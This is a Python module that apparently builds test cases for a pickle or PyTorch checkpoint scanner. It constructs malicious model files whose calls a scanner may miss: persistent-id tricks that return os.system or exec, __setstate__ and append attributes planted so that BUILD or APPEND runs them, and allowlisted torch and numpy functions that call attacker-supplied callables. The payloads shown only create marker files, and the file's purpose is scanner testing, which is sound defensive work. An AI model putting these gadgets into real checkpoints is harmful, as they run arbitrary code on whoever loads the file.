"""Issue 18, classes 3 to 5: calls a scanner does not see as calls.

Class 3: persistent ids. The legacy loader decodes a ``bytes`` type name (``b'module'``) and
returns the tuple's next item; the tar loader returns the first item of any tuple. The
result is then called by ``REDUCE``.

Class 4: ``BUILD`` looks ``__setstate__`` up on the *instance*, ``APPEND(S)`` looks up
``extend``/``append`` and ``ADDITEMS`` ``add``: a first ``BUILD`` that stores a callable in an
allowed object's ``__dict__`` makes the next opcode call it with attacker data.

Class 5: allowed functions that call their arguments: ``_rebuild_from_type(_v2)`` calls
``func(*args)``; numpy's RNG constructors call ``bit_generator_ctor(name)`` or instantiate a
class; ``copyreg._reconstructor`` runs ``base.__init__(obj, state)``.
"""

from __future__ import annotations

import pickle
from pathlib import Path
from typing import Any

from . import pk
from . import tarckpt as T
from .c3base import (
    DANGEROUS,
    STORAGES,
    UNVETTED,
    add,
    argv,
    expr,
    marker,
    py,
    sh,
    state,
    user_module,
)
from .corpus import W_BYTES, legacy_file
from .pk import Build, Call, G, PersId, Raw
from .zipw import torch_zip

SYSTEM = G("os", "system")
RNG = "numpy.random._pickle"
_BOOM = "class Boom:\n    def __init__(self):\n        open(MARKER, 'w').close()\n"


def _boom(d: Path, id: str) -> G:
    """A class of a module the victim has installed whose constructor creates the marker."""
    return G(user_module(d, f"c3u_{id}", _BOOM), "Boom")


def _zip(payload: Any, proto: int = 2) -> bytes:
    return torch_zip(pk.dumps(state(payload), proto), STORAGES)


def _legacy(extra: Any, proto: int = 2) -> bytes:
    main = pk.dumps({"w": pk.legacy_tensor("0", 6, (2, 3)), "extra": extra}, proto)
    return legacy_file(main, [("0", 6, W_BYTES)])


def _ns(**attrs: Any) -> Build:
    return Build(Call(G("types", "SimpleNamespace"), ()), attrs)


def type_hints(d: Path) -> Call:
    """``typing.get_type_hints(ns)`` where ``ns.__annotations__`` holds code: it is eval'd."""
    return Call(G("typing", "get_type_hints"), (_ns(__annotations__={"x": expr(d)}),))


# --- class 3: persistent ids -----------------------------------------------------------------
def _c3(id: str, make, name: str = "model.pt", note: str = "", **kw: Any) -> None:  # type: ignore[no-untyped-def]
    add(id, 3, DANGEROUS, make, name=name, payload=True, note=note, **kw)


# Sinks no denylist names (they are unvetted code that runs what it is given): a verdict of
# "unvetted code" is as right as "dangerous" for them.
SINK = (UNVETTED,)


_c3(
    "c3_legacy_persid_bytes_module_binbytes",
    lambda d: _legacy(Call(PersId((b"module", SYSTEM, None, None)), (sh(d),)), 3),
    note="BINPERSID (b'module', os.system, None, None): legacy persistent_load returns os.system",
)
_c3(
    "c3_legacy_persid_bytes_module_codecs_encode",
    lambda d: _legacy(Call(PersId((b"module", SYSTEM, None, None)), (sh(d),)), 2),
    note="protocol 2 writes the bytes type name as _codecs.encode('module', 'latin1')",
)
_c3(
    "c3_legacy_persid_str_module",
    lambda d: _legacy(Call(PersId(("module", G("builtins", "exec"), None, None)), (py(d),))),
)
_c3(
    "c3_legacy_persid_bytes_module_get_type_hints",
    lambda d: _legacy(
        Call(
            PersId((b"module", G("typing", "get_type_hints"), None, None)),
            (_ns(__annotations__={"x": expr(d)}),),
        ),
        3,
    ),
)


def _tar(extra: Any) -> bytes:
    return T.checkpoint(T.benign_parts({"w": PersId(str(T.TENSOR_KEY)), "x": extra}))


_c3(
    "c3_tar_persid_tuple_first_item_os_system",
    lambda d: _tar(Call(PersId((SYSTEM, None, None)), (sh(d),))),
    "model.tar",
    "tar persistent_load returns saved_id[0] of any tuple",
)
_c3(
    "c3_tar_persid_tuple_first_item_get_type_hints",
    lambda d: _tar(
        Call(
            PersId((G("typing", "get_type_hints"), None, None)),
            (_ns(__annotations__={"x": expr(d)}),),
        )
    ),
    "model.tar",
)
_c3(
    "c3_tar_persid_tuple_with_source_fields",
    lambda d: _tar(Call(PersId((SYSTEM, "model.py", "class Model: pass")), (sh(d),))),
    "model.tar",
    "truthy source fields: torch only warns that it cannot check the source, then returns it",
)
_c3(
    "c3_tar_persid_tuple_first_item_popen",
    lambda d: _tar(Call(PersId((G("subprocess", "Popen"), None, None)), (argv(d),))),
    "model.tar",
)


_c3(
    "c3_legacy_persid_bytes_module_wave_write",
    lambda d: _legacy(
        Call(PersId((b"module", G("wave", "Wave_write"), None, None)), (marker(d),)), 3
    ),
    also=SINK,
)
_c3(
    "c3_tar_persid_tuple_first_item_sympy_S",
    lambda d: _tar(Call(PersId((G("sympy", "S"), None, None)), (expr(d),))),
    "model.tar",
    also=SINK,
    needs=("sympy",),
)
add(
    "c3_tar_persid_tuple_first_item_fork_exec",
    3,
    DANGEROUS,
    lambda d: _tar(Call(PersId((G("_posixsubprocess", "fork_exec"), None, None)), _fork_exec(d))),
    name="model.tar",
    note="not confirmed: fork_exec only execs when errpipe_write is an open descriptor >= 3, "
    "which depends on the loading process; the case passes 1000 so it stays inert",
)


def _fork_exec(d: Path) -> tuple[Any, ...]:
    args = [a.encode() for a in argv(d)]
    pipes = (-1, -1, -1, -1, -1, -1, -1, 1000)  # p2c, c2p, err, then errpipe read and write
    ids = (False, False, -1, -1, None, -1, -1, None, False)  # signals .. umask, preexec, vfork
    return (args, [b"/usr/bin/touch", b"/bin/touch"], True, (), None, None, *pipes, *ids)


# --- class 4: calls through instance attributes ----------------------------------------------
def _c4(id: str, value, proto: int = 2, note: str = "", **kw: Any) -> None:  # type: ignore[no-untyped-def]
    add(id, 4, DANGEROUS, lambda d: _zip(value(d), proto), payload=True, note=note, **kw)


def _ops(*parts: Any, proto: int = 2) -> Raw:
    """Opcode bytes and values, in order, as one value-pushing Raw."""
    out = [p if isinstance(p, bytes) else pk.enc(p, proto) for p in parts]
    return Raw(b"".join(out))


_c4(
    "c4_simplenamespace_setstate_then_build",
    lambda d: Build(_ns(__setstate__=SYSTEM), sh(d)),
    note="BUILD #1 puts os.system in the instance's __dict__; BUILD #2 calls it",
)
_c4(
    "c4_argparse_namespace_setstate_then_build",
    lambda d: Build(
        Build(Call(G("argparse", "Namespace"), ()), {"__setstate__": G("builtins", "exec")}),
        py(d),
    ),
)
_c4(
    "c4_namespace_slotstate_sets_setstate",
    lambda d: Build(
        Build(Call(G("argparse", "Namespace"), ()), (None, {"__setstate__": SYSTEM})), sh(d)
    ),
    note="state (None, slots): setattr(obj, '__setstate__', os.system)",
)
_c4(
    "c4_ordereddict_setstate_then_build",
    lambda d: Build(
        Build(Call(G("collections", "OrderedDict"), ()), {"__setstate__": SYSTEM}), sh(d)
    ),
)
_c4(
    "c4_simplenamespace_append",
    lambda d: _ops(_ns(append=SYSTEM), sh(d), pk.APPEND),
    note="APPEND on a non-list: no extend attribute, so append(item) is called",
)
_c4(
    "c4_simplenamespace_appends_extend",
    lambda d: _ops(_ns(extend=G("subprocess", "call")), pk.MARK, *argv(d), pk.APPENDS),
    note="APPENDS on a non-list: extend([items]) = subprocess.call(['touch', MARKER])",
)
_c4(
    "c4_counter_append",
    lambda d: _ops(
        Build(Call(G("collections", "Counter"), ()), {"append": SYSTEM}), sh(d), pk.APPEND
    ),
)
_c4(
    "c4_simplenamespace_additems_add",
    lambda d: _ops(_ns(add=SYSTEM), pk.MARK, sh(d), b"\x90", proto=4),
    proto=4,
    note="ADDITEMS on a non-set calls obj.add(item)",
)


def _np_str_key() -> Raw:
    """``numpy.str_('__setstate__')`` exactly as numpy pickles it (protocol 2)."""
    import numpy as np

    return Raw(pickle.dumps(np.str_("__setstate__"), 2)[2:-1])


_c4(
    "c4_numpy_str_key_sets_setstate",
    lambda d: Build(
        Build(Call(G("types", "SimpleNamespace"), ()), {_np_str_key(): SYSTEM}),
        sh(d),
    ),
    note="a numpy.str_ key equal to '__setstate__' lands in the instance __dict__",
)


_c4(
    "c4_str_call_key_sets_setstate",
    lambda d: Build(
        Build(
            Call(G("types", "SimpleNamespace"), ()),
            {Call(G("builtins", "str"), ("__setstate__",)): SYSTEM},
        ),
        sh(d),
    ),
)
_c4(
    "c4_setstate_then_build_through_memo",
    lambda d: _ops(
        pk.EMPTY_LIST,
        pk.MARK,
        _ns(__setstate__=SYSTEM),
        pk.binput(200),
        1,
        2,
        pk.binget(200),
        sh(d),
        pk.BUILD,
        pk.APPENDS,
    ),
    note="the second BUILD reaches the namespace through BINGET, elsewhere in the tree",
)
_c4(
    "c4_parameter_state_sets_setstate",
    lambda d: Build(
        Call(
            G("torch._utils", "_rebuild_parameter_with_state"),
            (pk.tensor("0", 6, (2, 3)), False, pk.ODict(), {"__setstate__": SYSTEM}),
        ),
        sh(d),
    ),
    note="torch's own _set_obj_state does setattr(param, '__setstate__', os.system)",
)


_c4(
    "c4_namespace_setstate_is_sympy_S",
    lambda d: Build(_ns(__setstate__=G("sympy", "S")), expr(d)),
    also=SINK,
    needs=("sympy",),
)
_c4(
    "c4_namespace_append_is_get_type_hints",
    lambda d: _ops(
        _ns(append=G("typing", "get_type_hints")), _ns(__annotations__={"x": expr(d)}), pk.APPEND
    ),
    also=SINK,
)
_c4(
    "c4_counter_append_is_wave_write",
    lambda d: _ops(
        Build(Call(G("collections", "Counter"), ()), {"append": G("wave", "Wave_write")}),
        marker(d),
        pk.APPEND,
    ),
    also=SINK,
)
add(
    "c4_namespace_setstate_is_numpy_randomstate_ctor",
    4,
    UNVETTED,
    lambda d: _zip(Build(_ns(__setstate__=G(RNG, "__randomstate_ctor")), _boom(d, "nsrs"))),
    also=(DANGEROUS,),
    payload=True,
    site=True,
    note="every global is allowlisted but the user class it is given: __randomstate_ctor(Boom) "
    "calls numpy's __bit_generator_ctor(Boom), which instantiates it",
)


# --- class 5: calls made inside allowed functions --------------------------------------------
def _c5(id: str, value, expect: str = DANGEROUS, **kw: Any) -> None:  # type: ignore[no-untyped-def]
    add(id, 5, expect, lambda d: _zip(value(d)), **{"payload": True, **kw})


def _rebuild(name: str, func: G, args: Any) -> Call:
    return Call(G("torch._tensor", name), (func, G("torch", "Tensor"), args, {}))


_c5(
    "c5_rebuild_from_type_v2_os_system",
    lambda d: _rebuild("_rebuild_from_type_v2", SYSTEM, (sh(d),)),
)
_c5(
    "c5_rebuild_from_type_v2_exec",
    lambda d: _rebuild("_rebuild_from_type_v2", G("builtins", "exec"), (py(d),)),
)
_c5("c5_rebuild_from_type_v1_os_system", lambda d: _rebuild("_rebuild_from_type", SYSTEM, (sh(d),)))
_c5(
    "c5_rebuild_from_type_v2_get_type_hints",
    lambda d: _rebuild(
        "_rebuild_from_type_v2",
        G("typing", "get_type_hints"),
        (_ns(__annotations__={"x": expr(d)}),),
    ),
    also=SINK,
)
_c5(
    "c5_rebuild_from_type_v2_sympy_S",
    lambda d: _rebuild("_rebuild_from_type_v2", G("sympy", "S"), (expr(d),)),
    also=SINK,
    needs=("sympy",),
)
_c5(
    "c5_randomstate_ctor_calls_sympy_S",
    lambda d: Call(G(RNG, "__randomstate_ctor"), (expr(d), G("sympy", "S"))),
    also=SINK,
    needs=("sympy",),
)
_c5(
    "c5_randomstate_ctor_calls_os_system",
    lambda d: Call(G(RNG, "__randomstate_ctor"), (sh(d), SYSTEM)),
    note="bit_generator_ctor(name) = os.system(cmd); RandomState(0) then loads fine",
)
_c5(
    "c5_randomstate_ctor_calls_eval",
    lambda d: Call(G(RNG, "__randomstate_ctor"), (expr(d), G("builtins", "eval"))),
)
_c5(
    "c5_generator_ctor_calls_os_system",
    lambda d: Call(G(RNG, "__generator_ctor"), (sh(d), SYSTEM)),
)

_c5(
    "c5_bit_generator_ctor_instantiates_user_class",
    lambda d: Call(G(RNG, "__bit_generator_ctor"), (_boom(d, "bitgen"),)),
    UNVETTED,
    also=(DANGEROUS,),
    site=True,
    note="any class is instantiated with no arguments",
)
_c5(
    "c5_randomstate_ctor_numpy_ctor_given_user_class",
    lambda d: Call(
        G(RNG, "__randomstate_ctor"), (_boom(d, "rsctor"), G(RNG, "__bit_generator_ctor"))
    ),
    UNVETTED,
    also=(DANGEROUS,),
    site=True,
    note="numpy's own bit-generator constructor, but given a class that is not numpy's",
)
_c5(
    "c5_copyreg_reconstructor_base_filehandler",
    lambda d: Call(
        G("copyreg", "_reconstructor"),
        (G("logging", "FileHandler"), G("logging", "FileHandler"), marker(d)),
    ),
    note="base.__init__(obj, state) = FileHandler(MARKER): creates the file",
)
_c5(
    "c5_copyreg_reconstructor_base_wave_write",
    lambda d: Call(
        G("copyreg", "_reconstructor"),
        (G("wave", "Wave_write"), G("wave", "Wave_write"), marker(d)),
    ),
)
_c5(
    "c5_defaultdict_factory_os_system",
    lambda d: Call(G("collections", "defaultdict"), (SYSTEM,)),
    payload=False,
    loads=True,
    note="not called while loading (only on a missing key later): still not safe",
)
_c5(
    "c5_defaultdict_factory_from_user_module",
    lambda d: Call(
        G("collections", "defaultdict"),
        (
            G(
                user_module(d, "c3u_factory", "open(MARKER, 'w').close()\nfactory = list\n"),
                "factory",
            ),
        ),
    ),
    UNVETTED,
    also=(DANGEROUS,),
    site=True,
    note="the factory's module runs code when loading imports it",
)
